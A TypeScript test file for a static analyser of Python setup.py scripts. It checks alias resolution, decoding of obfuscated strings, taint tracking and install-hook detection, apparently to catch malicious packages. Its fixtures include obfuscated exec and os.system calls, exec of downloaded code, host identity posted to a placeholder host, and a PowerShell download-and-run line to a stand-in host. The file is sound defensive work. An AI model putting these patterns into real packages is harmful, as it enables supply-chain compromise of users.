// Facts derived from Python source: aliases resolved to qualified names, strings folded and
// decoded, taint carried from sources to calls, and where each call runs.

import { deflateSync } from 'node:zlib';
import { DecodeBudget } from '../src/analysis/decode.js';
import { extractFacts } from '../src/analysis/facts.js';
import type { CallFact, Role, UnitFacts } from '../src/analysis/model.js';
import { parseSource } from '../src/analysis/parse.js';
import { Taint, type Value, deepTaint, knownStr } from '../src/analysis/values.js';

function facts(src: string, opts: { files?: string[]; role?: Role; budget?: DecodeBudget } = {}): UnitFacts {
  const files = new Set(opts.files ?? []);
  return extractFacts(parseSource(src, 'setup.py'), {
    path: 'setup.py',
    role: opts.role ?? 'setup',
    depth: 0,
    budget: opts.budget ?? new DecodeBudget(),
    fileExists: (p) => files.has(p),
  });
}

const py = (lines: string[]): string => lines.join('\n') + '\n';

function calls(f: UnitFacts, callee: string): CallFact[] {
  return f.calls.filter((c) => c.callee === callee);
}

function firstArg(f: UnitFacts, callee: string): Value {
  const c = calls(f, callee)[0];
  if (!c) throw new Error(`no call to ${callee}; calls: ${f.calls.map((x) => x.callee).join(', ')}`);
  return c.args[0];
}

describe('imports and aliases', () => {
  it.each([
    ['import subprocess as sp', "sp.Popen(['ls'])", 'subprocess.Popen'],
    ['from os import system as s', "s('id')", 'os.system'],
    ['import os.path', "os.system('id')", 'os.system'],
    ['from subprocess import *', "call(['id'])", 'subprocess.call'],
    ['import os', "run = os.system\nrun('id')", 'os.system'],
    ['import os', "getattr(os, 'sys' + 'tem')('id')", 'os.system'],
    ['m = __import__("o" + "s")', "m.system('id')", 'os.system'],
    ['import importlib', "importlib.import_module('subprocess').call(['id'])", 'subprocess.call'],
    ['import sys', "sys.modules['os'].system('id')", 'os.system'],
    ['import builtins', "builtins.exec('x = 1')", 'builtins.exec'],
    ['x = 1', "__builtins__.__dict__['ex' + 'ec']('x = 1')", 'builtins.exec'],
    ['x = 1', "globals()['__builtins__'].eval('1')", 'builtins.eval'],
    ['x = 1', '\u{1d41e}\u{1d431}\u{1d41e}\u{1d41c}("x = 1")', 'builtins.exec'],
  ])('%s; %s resolves to %s', (head, body, expected) => {
    const f = facts(py([head, body]));
    expect(f.calls.map((c) => c.callee)).toContain(expected);
  });

  it('records dynamic lookups and whether their names were assembled', () => {
    const f = facts(py(["a = __import__('o' + 's')", "b = __import__('setuptools')", "c = getattr(__builtins__, 'exec')"]));
    expect(f.dynamic.map((d) => [d.via, d.name, d.constructed, d.target])).toEqual([
      ['__import__', 'os', true, 'os'],
      ['__import__', 'setuptools', false, 'setuptools'],
      ['getattr', 'exec', false, 'builtins.exec'],
    ]);
  });

  it('lets a local binding shadow a builtin', () => {
    const f = facts(py(['def exec(x):', '    return x', "exec('not the builtin')"]));
    expect(calls(f, 'builtins.exec')).toEqual([]);
  });

  it('records imports with their level and names', () => {
    const f = facts(py(['import a.b as c', 'from ..pkg.mod import x, y as z', 'from . import sibling']));
    expect(f.imports.map((i) => [i.module, i.level, i.names ?? null])).toEqual([
      ['a.b', 0, null],
      ['pkg.mod', 2, ['x', 'y']],
      ['', 1, ['sibling']],
    ]);
  });
});

describe('constant folding', () => {
  it.each([
    ['concatenation', "u = 'ht' + 'tp://' + 'example.org'", 'http://example.org'],
    ['percent formatting', "u = 'http://%s/%d' % ('example.org', 7)", 'http://example.org/7'],
    ['percent with a mapping', "u = '%(h)s!' % {'h': 'x'}", 'x!'],
    ['str.format', "u = '{}://{host}'.format('https', host='example.org')", 'https://example.org'],
    ['f-strings', "h = 'example.org'\nu = f'https://{h}/{1 + 2}'", 'https://example.org/3'],
    ['implicit concatenation', "u = ('a' 'b'\n     'c')", 'abc'],
    ['join of a list', "u = '/'.join(['a', 'b', 'c'])", 'a/b/c'],
    ['reversal', "u = 'gro.elpmaxe'[::-1]", 'example.org'],
    ['slicing', "u = 'xxexample.orgyy'[2:-2]", 'example.org'],
    ['chr of a list', "u = ''.join(chr(c) for c in [104, 105, 33])", 'hi!'],
    ['map of chr', "u = ''.join(map(chr, [104, 105]))", 'hi'],
    ['char arithmetic', "u = ''.join(chr(c ^ 23) for c in [120, 100])", 'os'],
    ['a lambda over codes', "u = ''.join(map(lambda c: chr(c - 1), [105, 106]))", 'hi'],
    ['bytes.fromhex', "u = bytes.fromhex('6869').decode()", 'hi'],
    ['bytes of ints', "u = bytes([104, 105]).decode('utf-8')", 'hi'],
    ['base64', "import base64\nu = base64.b64decode('aGk=').decode()", 'hi'],
    ['urlsafe base64', "import base64\nu = base64.urlsafe_b64decode('aGk_').decode('latin-1')", 'hi?'],
    ['base32', "import base64\nu = base64.b32decode('NBUQ====').decode()", 'hi'],
    ['base16', "import base64\nu = base64.b16decode('6869').decode()", 'hi'],
    ['base85', "import base64\nu = base64.b85decode('XlV').decode()", 'hi'],
    ['unhexlify', "from binascii import unhexlify\nu = unhexlify('6869').decode()", 'hi'],
    ['rot13', "import codecs\nu = codecs.decode('uv', 'rot13')", 'hi'],
    ['Python 2 codecs on str', "u = 'aGk='.decode('base64')", 'hi'],
    ['translate', "u = 'ij'.translate(str.maketrans('ij', 'hi'))", 'hi'],
    ['escapes', "u = '\\x68\\151\\u0021'", 'hi!'],
    ['dict lookups', "d = {'k': 'hi'}\nu = d['k'] + d.get('z', '!')", 'hi!'],
    ['replace', "u = 'hXi'.replace('X', '')", 'hi'],
    ['a function returning a constant', "def host():\n    return 'example.org'\nu = 'https://' + host()", 'https://example.org'],
    ['os.path.join', "import os\nu = os.path.join(os.path.dirname(__file__), 'pkg', 'v.py')", 'pkg/v.py'],
    ['pathlib', "from pathlib import Path\nu = str(Path(__file__).resolve().parent / 'pkg' / 'v.py')", 'pkg/v.py'],
  ])('%s', (_name, src, expected) => {
    const f = facts(src + '\nsink(u)\n');
    expect(knownStr(firstArg(f, 'sink'))).toBe(expected);
  });

  it('keeps the known text around unknown parts', () => {
    const f = facts(py(['import sys', "u = 'https://hooks.example/' + sys.argv[1] + '/end'", 'sink(u)']));
    const v = firstArg(f, 'sink');
    expect(v.k).toBe('str');
    expect(v.k === 'str' && v.partial).toBe(true);
    expect(v.k === 'str' && v.s.startsWith('https://hooks.example/')).toBe(true);
  });

  it('undoes zlib over base64 and names the chain', () => {
    const blob = deflateSync(Buffer.from("print('hidden')")).toString('base64');
    const f = facts(py(['import zlib, base64', `u = zlib.decompress(base64.b64decode('${blob}')).decode()`, 'sink(u)']));
    const v = firstArg(f, 'sink');
    expect(knownStr(v)).toBe("print('hidden')");
    expect(v.k === 'str' && v.how).toBe('base64 -> zlib');
    expect(deepTaint(v) & Taint.DECODED).toBeTruthy();
    expect(f.decodes.map((d) => [d.codec, d.ok])).toEqual([
      ['base64', true],
      ['zlib', true],
    ]);
  });

  it('records a decoder it cannot undo as opaque evidence', () => {
    const f = facts(py(['import lzma, base64', "u = lzma.decompress(base64.b64decode('/Td6WFoAAATm1rRG'))", 'exec(u)']));
    expect(f.opaque.map((o) => [o.codec, o.constant])).toEqual([['lzma', true]]);
    expect(deepTaint(firstArg(f, 'builtins.exec')) & Taint.OPAQUE).toBeTruthy();
  });

  it('records a failed decode without inventing output', () => {
    const f = facts(py(['import base64', "u = base64.b16decode('not hex!')", 'sink(u)']));
    expect(f.decodes).toHaveLength(1);
    expect(f.decodes[0].ok).toBe(false);
    expect(firstArg(f, 'sink').k).toBe('unknown');
  });

  it('does not mark plain character escapes as decoded', () => {
    const f = facts(py(["sep = chr(92)", "u = 'a' + sep + 'b'", 'sink(u)']));
    expect(deepTaint(firstArg(f, 'sink')) & Taint.DECODED).toBe(0);
  });
});

describe('taint from sources to calls', () => {
  it('carries host identity into what is sent', () => {
    const f = facts(py(['import socket, getpass, requests', "d = {'h': socket.gethostname(), 'u': getpass.getuser()}", "requests.post('https://c.example', json=d)"]));
    expect(deepTaint(calls(f, 'requests.post')[0].kwargs.json) & Taint.IDENTITY).toBeTruthy();
  });

  it('tells one environment variable from the whole environment', () => {
    const f = facts(py(['import os', "a = os.environ.get('CFLAGS', '')", 'b = dict(os.environ)', 'sink(a, b)']));
    const [a, b] = calls(f, 'sink')[0].args;
    expect(deepTaint(a) & Taint.ENV).toBeTruthy();
    expect(deepTaint(a) & Taint.ENV_ALL).toBe(0);
    expect(deepTaint(b) & Taint.ENV_ALL).toBeTruthy();
  });

  it('does not let an env= argument taint a process result', () => {
    const f = facts(py(['import os, subprocess', 'env = os.environ.copy()', "out = subprocess.check_output(['git', 'describe'], env=env)", 'sink(out)']));
    expect(deepTaint(firstArg(f, 'sink')) & Taint.ENV_ALL).toBe(0);
  });

  it('marks downloaded data', () => {
    const f = facts(py(['import urllib.request', "code = urllib.request.urlopen('https://x.example/p').read().decode()", 'exec(code)']));
    expect(deepTaint(firstArg(f, 'builtins.exec')) & Taint.NETWORK).toBeTruthy();
  });

  it('knows a file read from the sdist and the file it is', () => {
    const f = facts(py(["exec(open('pkg/version.py').read())"]), { files: ['pkg/version.py'] });
    expect(deepTaint(firstArg(f, 'builtins.exec')) & Taint.LOCAL_FILE).toBeTruthy();
    expect(f.execFiles).toEqual([{ path: 'pkg/version.py', line: 1 }]);
  });

  it('passes argument values into a called function', () => {
    const f = facts(py(['import os', 'def run(cmd):', '    os.system(cmd)', "run('make all')"]));
    expect(knownStr(firstArg(f, 'os.system'))).toBe('make all');
  });

  it('records sys.path additions', () => {
    const f = facts(py(['import sys, os', "sys.path.insert(0, os.path.join(os.path.dirname(__file__), 'src'))"]));
    expect(f.sysPath).toEqual(['src']);
  });
});

describe('where calls run', () => {
  const src = py([
    'import os, atexit',
    'from setuptools import setup',
    'from setuptools.command.install import install',
    'def helper():',
    "    os.system('helper')",
    'def never():',
    "    os.system('never')",
    'def later():',
    "    os.system('later')",
    'atexit.register(later)',
    'class PostInstall(install):',
    '    def run(self):',
    '        install.run(self)',
    '        self.extra()',
    '    def extra(self):',
    "        os.system('extra')",
    "os.system('top')",
    'helper()',
    "setup(name='x', cmdclass={'install': PostInstall})",
  ]);
  const f = facts(src);
  const where = (cmd: string) => f.calls.find((c) => c.callee === 'os.system' && knownStr(c.args[0]) === cmd)?.where;

  it('knows the top level', () => expect(where('top')).toEqual({ scope: 'top-level', entry: 'top-level' }));
  it('knows a function called from the top level', () => expect(where('helper')).toEqual({ scope: 'function helper', entry: 'top-level' }));
  it('knows a function registered to run later', () => expect(where('later')).toEqual({ scope: 'function later', entry: 'top-level' }));
  it('knows a cmdclass command and what it calls', () => {
    expect(where('extra')).toEqual({ scope: 'method PostInstall.extra', entry: 'cmdclass:PostInstall.run' });
    expect(f.cmdclass).toEqual([{ command: 'install', cls: 'PostInstall', line: 19 }]);
    expect(f.commands).toEqual(['PostInstall']);
  });
  it('knows a function nothing calls', () => expect(where('never')).toEqual({ scope: 'function never' }));

  it('treats every function of a build hook as an entry', () => {
    const hook = facts(py(['import os', 'def build(setup_kwargs):', "    os.system('hook')"]), { role: 'hook' });
    expect(hook.calls.find((c) => c.callee === 'os.system')?.where.entry).toBe('hook:build');
  });

  it('skips the __main__ block of an imported module', () => {
    const mod = facts(py(['import os', "if __name__ == '__main__':", "    os.system('cli')", "os.system('import time')"]), { role: 'imported' });
    expect(mod.calls.filter((c) => c.callee === 'os.system').map((c) => knownStr(c.args[0]))).toEqual(['import time']);
  });
});

describe('Python 2', () => {
  it('still yields facts from print statements, old except clauses and exec statements', () => {
    const f = facts(py(['import os', 'print "building %s" % os.name', 'try:', '    import foo', 'except ImportError, e:', '    pass', 'exec "import os; os.system(\'id\')"', 'exec code in ns', "os.system('after')"]));
    expect(calls(f, 'builtins.exec')).toHaveLength(2);
    expect(f.payloads.map((p) => p.code)).toEqual(["import os; os.system('id')"]);
    expect(calls(f, 'os.system').map((c) => knownStr(c.args[0]))).toEqual(['after']);
  });

  it('reads octal literals and ur prefixes without failing', () => {
    const f = facts(py(['import os', 'os.chmod("x", 0755)', "os.system('ok')"]));
    expect(calls(f, 'os.chmod')[0].args[1]).toEqual({ k: 'num', n: 0o755, t: 0 });
    expect(calls(f, 'os.system')).toHaveLength(1);
  });
});

describe('payloads', () => {
  it('hands decoded code to analysis with its decoding chain', () => {
    const b64 = Buffer.from("import os\nos.system('id')").toString('base64');
    const f = facts(py(['import base64', `exec(base64.b64decode('${b64}'))`]));
    expect(f.payloads).toEqual([expect.objectContaining({ code: "import os\nos.system('id')", how: 'base64', via: 'exec', line: 2 })]);
  });

  it('takes the code of python -c', () => {
    const f = facts(py(['import subprocess, sys', "subprocess.call([sys.executable, '-c', 'import os; os.system(1)'])"]));
    expect(f.payloads.map((p) => [p.via, p.code])).toEqual([['python -c', 'import os; os.system(1)']]);
  });

  it('decodes a PowerShell -EncodedCommand', () => {
    const enc = Buffer.from('IEX (iwr http://x.example/a)', 'utf16le').toString('base64');
    const f = facts(py(['import subprocess', `subprocess.Popen(['powershell', '-enc', '${enc}'])`]));
    const d = f.decodes.find((x) => x.codec === 'powershell-encoded');
    expect(d?.output?.s).toBe('IEX (iwr http://x.example/a)');
  });

  it('stops decoding when the shared budget is spent', () => {
    const b64 = Buffer.from('x'.repeat(5000)).toString('base64');
    const f = facts(py(['import base64', `a = base64.b64decode('${b64}')`, `b = base64.b64decode('${b64}' + '')`]), { budget: new DecodeBudget(6000) });
    expect(f.decodes.filter((d) => d.ok)).toHaveLength(1);
    expect(f.limits.join('\n')).toMatch(/decode budget exhausted/);
  });
});
